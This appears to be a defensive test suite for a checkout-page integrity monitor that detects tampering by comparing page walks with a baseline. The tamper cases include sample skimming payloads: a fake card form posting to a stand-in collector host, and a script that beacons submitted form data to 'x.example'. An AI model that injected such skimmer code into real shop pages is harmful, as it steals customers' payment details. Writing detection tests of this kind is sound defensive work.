// Each way an intruder alters the way to payment is caught by comparing a walk of a tampered shop
// with the baseline of the untouched one; and walking the untouched shop again and again (new
// nonces, CSRF tokens and cart ids every time) is never mistaken for a change.
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { describeEachDatabase } from '../../test/support/databases.ts';
import { mediaDir, startTestShop, type TestShop } from '../../test/support/test-shop.ts';
import { SandboxPaymentProvider } from '../payments/sandbox/sandbox-provider.ts';
import { compareToBaseline, describeDifference, type Difference } from './compare.ts';
import { injectFetch } from './inject-fetch.ts';
import type { PageSnapshot } from './page-snapshot.ts';
import { walkToPayment, type PageFetch } from './walk-to-payment.ts';

const ORIGIN = 'http://127.0.0.1:0';
const GATEWAY = 'http://127.0.0.1:3100';

const gateway = (baseUrl: string) => new SandboxPaymentProvider({ baseUrl, merchantId: 'mch_test', secret: 'sk_sandbox_never_contacted_in_this_test' });

interface Tamper {
  path: RegExp;
  html?: (html: string) => string;
  body?: (body: string) => string;
  headers?: (headers: Headers) => void;
}

/** A fetch that rewrites some responses, as an intruder who changed the shop's files or server would. */
function tampered(fetch: PageFetch, ...tampers: Tamper[]): PageFetch {
  return async (url, init) => {
    const res = await fetch(url, init);
    const matching = tampers.filter((t) => t.path.test(new URL(url).pathname));
    if (matching.length === 0) return res;
    let body = await res.text();
    const headers = new Headers(res.headers);
    for (const t of matching) {
      if (t.html && (headers.get('content-type') ?? '').startsWith('text/html')) body = t.html(body);
      if (t.body) body = t.body(body);
      t.headers?.(headers);
    }
    headers.delete('content-length');
    return new Response(body, { status: res.status, headers });
  };
}

const ofType = (diffs: Difference[], type: Difference['type']) => diffs.filter((d) => d.type === type);

describeEachDatabase('walkToPayment', (database) => {
  let shop: TestShop;
  let other: TestShop;
  let fetch: PageFetch;
  let baseline: PageSnapshot[];

  const walk = async (f: PageFetch = fetch) => {
    const r = await walkToPayment({ baseUrl: ORIGIN, fetch: f });
    if (!r.ok) throw new Error(`walk failed: ${r.error} at ${r.step}: ${r.detail}`);
    return r;
  };
  const diffAgainstBaseline = async (f: PageFetch) => compareToBaseline(baseline, (await walk(f)).snapshots);

  beforeAll(async () => {
    shop = await startTestShop(database, { payments: gateway(GATEWAY), reconcileAtStart: false });
    fetch = injectFetch(shop.app, ORIGIN);
    baseline = (await walk()).snapshots;
  });

  afterAll(async () => {
    await shop?.dispose();
    await other?.dispose();
  });

  it('snapshots catalog, product, cart and checkout with what matters on each', () => {
    expect(baseline.map((s) => s.page)).toEqual(['catalog', 'product', 'cart', 'checkout']);
    const checkout = baseline.find((s) => s.page === 'checkout')!;
    expect(checkout.stylesheets).toEqual([expect.objectContaining({ kind: 'external', url: '/static/shop.css', sha256: expect.stringMatching(/^[0-9a-f]{64}$/) })]);
    expect(checkout.forms.map((f) => [f.method, f.action])).toContainEqual(['post', '/checkout']);
    expect(checkout.forms.flatMap((f) => f.fields).map((f) => f.autocomplete)).toContain('email');
    expect(checkout.paymentOrigins).toEqual([GATEWAY]);
    expect(checkout.headers.csp?.['script-src']).toEqual(["'self'", "'nonce'"]);
    expect(checkout.headers.frameAncestors).toEqual(["'none'"]);
    expect(checkout.cardFields).toEqual([]);
    // Per-cart parts are normalised away: the cart's line forms carry no item id.
    const cart = baseline.find((s) => s.page === 'cart')!;
    expect(cart.forms.map((f) => f.action)).toContain('/cart/items/:n/remove');
  });

  it('is a dry run: no order, no stock taken, and its cart line removed again', async () => {
    const db = shop.db.db;
    const stockBefore = await db.selectFrom('variants').select(({ fn }) => fn.sum<number>('stock').as('s')).executeTakeFirstOrThrow();
    const r = await walk();
    expect(r.level).toBe('http');
    expect(r.cleanedUp).toBe(true);
    expect(await db.selectFrom('orders').select(({ fn }) => fn.countAll<number>().as('n')).executeTakeFirstOrThrow()).toEqual({ n: 0 });
    expect(await db.selectFrom('cart_items').select(({ fn }) => fn.countAll<number>().as('n')).executeTakeFirstOrThrow()).toEqual({ n: 0 });
    const stockAfter = await db.selectFrom('variants').select(({ fn }) => fn.sum<number>('stock').as('s')).executeTakeFirstOrThrow();
    expect(Number(stockAfter.s)).toBe(Number(stockBefore.s));
    // Reusing the walk's cookies reuses its cart rather than leaving a new empty one each time.
    const carts = await db.selectFrom('carts').select(({ fn }) => fn.countAll<number>().as('n')).executeTakeFirstOrThrow();
    await walkToPayment({ baseUrl: ORIGIN, fetch, cookies: r.cookies });
    expect(await db.selectFrom('carts').select(({ fn }) => fn.countAll<number>().as('n')).executeTakeFirstOrThrow()).toEqual(carts);
  });

  it('raises no false alarm in 30 consecutive walks of the untouched shop', async () => {
    const seenNonces = new Set<string>();
    for (let i = 0; i < 30; i++) {
      const r = await walkToPayment({ baseUrl: ORIGIN, fetch: async (url, init) => {
        const res = await fetch(url, init);
        const nonce = /'nonce-([^']+)'/.exec(res.headers.get('content-security-policy') ?? '')?.[1];
        if (nonce) seenNonces.add(nonce);
        return res;
      } });
      expect(r.ok).toBe(true);
      expect(compareToBaseline(baseline, r.ok ? r.snapshots : [])).toEqual([]);
    }
    // The walks really did see fresh nonces each time (so normalising them is what kept them quiet).
    expect(seenNonces.size).toBeGreaterThanOrEqual(30 * 4);
  });

  it('detects a script added to the checkout page', async () => {
    const diffs = await diffAgainstBaseline(tampered(fetch, { path: /^\/checkout$/, html: (h) => h.replace('</body>', '<script src="https://cdn.pay-mamori.example/checkout.js"></script></body>') }));
    expect(diffs).toEqual([{ type: 'script-added', page: 'checkout', script: { kind: 'external', url: 'https://cdn.pay-mamori.example/checkout.js', sha256: null, fetchError: 'HTTP 502' } }]);
    expect(describeDifference(diffs[0]!)).toContain('https://cdn.pay-mamori.example/checkout.js');
  });

  it('detects an inline script added to the checkout page', async () => {
    const diffs = await diffAgainstBaseline(tampered(fetch, { path: /^\/checkout$/, html: (h) => h.replace('</body>', '<script>document.forms[0].addEventListener("submit",()=>{})</script></body>') }));
    expect(diffs.map((d) => [d.type, d.page])).toEqual([['script-added', 'checkout']]);
  });

  it('detects a changed stylesheet (same URL, other bytes)', async () => {
    const diffs = await diffAgainstBaseline(tampered(fetch, { path: /^\/static\/shop\.css$/, body: (css) => `${css}\n.checkout-form{display:none}` }));
    // The stylesheet is on every page of the way; every page reports it.
    expect(ofType(diffs, 'stylesheet-changed').map((d) => d.page)).toEqual(['catalog', 'product', 'cart', 'checkout']);
    expect(diffs).toHaveLength(4);
  });

  it('detects a fake card form injected into the checkout page', async () => {
    const fake = '<form method="post" action="https://pay-mamori.example/collect"><label for="cn">カード番号</label><input id="cn" name="cn"><input name="cvc"></form>';
    const diffs = await diffAgainstBaseline(tampered(fetch, { path: /^\/checkout$/, html: (h) => h.replace('<aside', `${fake}<aside`) }));
    expect(ofType(diffs, 'card-field-added').map((d) => d.type === 'card-field-added' && d.field.kind)).toEqual(['number', 'csc']);
    expect(ofType(diffs, 'form-added')).toEqual([{ type: 'form-added', page: 'checkout', action: 'https://pay-mamori.example/collect' }]);
    expect(ofType(diffs, 'payment-origin-changed')).toEqual([{ type: 'payment-origin-changed', page: 'checkout', before: [GATEWAY], after: [GATEWAY, 'https://pay-mamori.example'] }]);
  });

  it('detects card fields slipped into the real checkout form', async () => {
    const diffs = await diffAgainstBaseline(tampered(fetch, { path: /^\/checkout$/, html: (h) => h.replace('<button type="submit"', '<input name="card_number" autocomplete="cc-number"><button type="submit"') }));
    expect(diffs.map((d) => d.type).sort()).toEqual(['card-field-added', 'form-fields-changed']);
  });

  it('detects the checkout form posting somewhere else', async () => {
    const diffs = await diffAgainstBaseline(tampered(fetch, { path: /^\/checkout$/, html: (h) => h.replace('action="/checkout"', 'action="https://pay-mamori.example/checkout"') }));
    expect(ofType(diffs, 'form-action-changed')).toEqual([{ type: 'form-action-changed', page: 'checkout', before: '/checkout', after: 'https://pay-mamori.example/checkout', method: 'post' }]);
    expect(ofType(diffs, 'payment-origin-changed')).toHaveLength(1);
  });

  it('detects the gateway configured to another origin', async () => {
    other = await startTestShop(database, { payments: gateway('https://pay-mamori.example'), reconcileAtStart: false });
    const diffs = await diffAgainstBaseline(injectFetch(other.app, ORIGIN));
    const changed = ofType(diffs, 'payment-origin-changed');
    expect(changed.map((d) => d.page)).toEqual(['catalog', 'product', 'cart', 'checkout']);
    expect(changed.find((d) => d.page === 'checkout')).toEqual({ type: 'payment-origin-changed', page: 'checkout', before: [GATEWAY], after: ['https://pay-mamori.example'] });
    // form-action now names another source too: the CSP check says so as well.
    expect(ofType(diffs, 'csp-weakened').map((d) => d.type === 'csp-weakened' && d.directive)).toContain('form-action');
  });

  const cspTamper = (edit: (csp: string) => string): Tamper => ({ path: /^\/checkout$/, headers: (h) => h.set('content-security-policy', edit(h.get('content-security-policy')!)) });

  it("detects a CSP with 'unsafe-inline'", async () => {
    const diffs = await diffAgainstBaseline(tampered(fetch, cspTamper((c) => c.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'"))));
    expect(diffs).toEqual([{ type: 'csp-weakened', page: 'checkout', directive: 'script-src', detail: "'unsafe-inline' added to script-src" }]);
  });

  it("detects 'unsafe-eval', a new script source, a dropped directive and a removed CSP", async () => {
    expect(await diffAgainstBaseline(tampered(fetch, cspTamper((c) => c.replace("script-src 'self'", "script-src 'self' 'unsafe-eval'")))))
      .toEqual([{ type: 'csp-weakened', page: 'checkout', directive: 'script-src', detail: "'unsafe-eval' added to script-src" }]);
    expect(await diffAgainstBaseline(tampered(fetch, cspTamper((c) => c.replace("script-src 'self'", "script-src 'self' https://cdn.pay-mamori.example")))))
      .toEqual([{ type: 'csp-weakened', page: 'checkout', directive: 'script-src', detail: 'source https://cdn.pay-mamori.example added to script-src' }]);
    const dropped = await diffAgainstBaseline(tampered(fetch, cspTamper((c) => c.replace("object-src 'none';", ''))));
    // object-src falls back to default-src 'self': looser than 'none'.
    expect(dropped).toEqual([{ type: 'csp-weakened', page: 'checkout', directive: 'object-src', detail: "source 'self' added to object-src" }]);
    expect(await diffAgainstBaseline(tampered(fetch, { path: /^\/checkout$/, headers: (h) => h.delete('content-security-policy') })))
      .toEqual(expect.arrayContaining([{ type: 'csp-weakened', page: 'checkout', directive: '*', detail: 'the page no longer sends a Content-Security-Policy' }]));
  });

  it('detects frame-ancestors loosened', async () => {
    const diffs = await diffAgainstBaseline(tampered(fetch, cspTamper((c) => c.replace("frame-ancestors 'none'", 'frame-ancestors https://pay-mamori.example'))));
    expect(diffs).toEqual([{ type: 'framing-allowed', page: 'checkout', detail: 'frame-ancestors now allows https://pay-mamori.example' }]);
  });

  it('detects a frame added to the checkout page', async () => {
    const diffs = await diffAgainstBaseline(tampered(fetch, { path: /^\/checkout$/, html: (h) => h.replace('<aside', '<iframe src="https://pay-mamori.example/card"></iframe><aside') }));
    expect(diffs).toEqual([{ type: 'frame-added', page: 'checkout', src: 'https://pay-mamori.example/card' }]);
  });

  it('detects a script file changed on disk (real bytes served by the shop)', async () => {
    const file = path.join(mediaDir(shop), 'page-watch-test', 'checkout.js');
    mkdirSync(path.dirname(file), { recursive: true });
    writeFileSync(file, 'console.log("analytics v1");\n');
    const withScript = tampered(fetch, { path: /^\/checkout$/, html: (h) => h.replace('</body>', '<script src="/media/page-watch-test/checkout.js"></script></body>') });
    const approved = (await walk(withScript)).snapshots;
    expect(compareToBaseline(approved, (await walk(withScript)).snapshots)).toEqual([]);
    writeFileSync(file, 'console.log("analytics v1");document.addEventListener("submit",e=>navigator.sendBeacon("https://x.example",new FormData(e.target)));\n');
    const diffs = compareToBaseline(approved, (await walk(withScript)).snapshots);
    expect(diffs.map((d) => [d.type, d.page, 'url' in d ? d.url : undefined])).toEqual([['script-changed', 'checkout', '/media/page-watch-test/checkout.js']]);
  });

  it('reports a walk that cannot reach the checkout as a failure, not as a match', async () => {
    const r = await walkToPayment({ baseUrl: ORIGIN, fetch: tampered(fetch, { path: /^\/checkout$/, headers: () => {}, html: () => { throw new Error('connection reset'); } }) });
    expect(r).toMatchObject({ ok: false, level: 'http', error: 'UNREACHABLE', step: 'checkout' });
  });
});
